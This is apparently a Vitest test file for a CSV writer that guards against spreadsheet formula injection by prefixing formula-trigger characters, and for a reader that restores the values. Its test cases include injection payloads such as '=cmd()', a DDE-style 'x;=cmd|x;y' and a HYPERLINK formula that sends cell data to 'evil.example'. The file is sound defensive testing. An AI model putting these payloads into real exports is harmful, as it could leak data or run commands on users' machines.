import { expect, it } from 'vitest';
import { csvLine, plainText } from './csv.ts';

it.each([
  ['plain', 'plain'],
  ['a "quoted" one', '"a ""quoted"" one"'],
  ['comma, semicolon; and\nline', '"comma, semicolon; and\nline"'],
  ['=cmd()', "'=cmd()"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@sum', "'@sum"],
  ['\t=1', '"\t\'=1"'],
  ['\r=1', '"\r\'=1"'],
  [' =1', " '=1"],
  ['\u00a0=1', "\u00a0'=1"],
  ['x;=cmd|x;y', '"x;\'=cmd|x;y"'],
  ['x; \t+1', '"x; \t\'+1"'],
  ['x,-1', '"x,\'-1"'],
  ['x\t@a', '"x\t\'@a"'],
  ['x\n=1', '"x\n\'=1"'],
  ['＝1', "'＝1"],
  ['x;＋1;－2;＠3', "\"x;'＋1;'－2;'＠3\""],
  ["'=1", "''=1"],
  ['=HYPERLINK("https://evil.example?"&A1,"x")', '"\'=HYPERLINK(""https://evil.example?""&A1,""x"")"'],
  ['a-b@c.example', 'a-b@c.example'],
  ['Müller - Söhne = 2', 'Müller - Söhne = 2'],
  ['Jürgen', 'Jürgen'],
  ['', ''],
])('writes %j as %j, so that no spreadsheet takes it for a formula, whatever it separates by', (cell, written) => {
  expect(csvLine([cell, 'b'])).toBe(`${written},b\r\n`);
});

const CELLS = [
  '=1',
  "'=1",
  "''''=1",
  'x;=cmd|x;y',
  "x; '=1,-2",
  '\t=1',
  "O'Neill",
  "'quoted'",
  'a, b, -c',
  '＝1',
  "'",
  '',
];

it.each(CELLS)('reads %j back as it was', (cell) => {
  const line = csvLine([cell]).slice(0, -2);
  const written = line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line;
  expect(plainText(written)).toBe(cell);
});
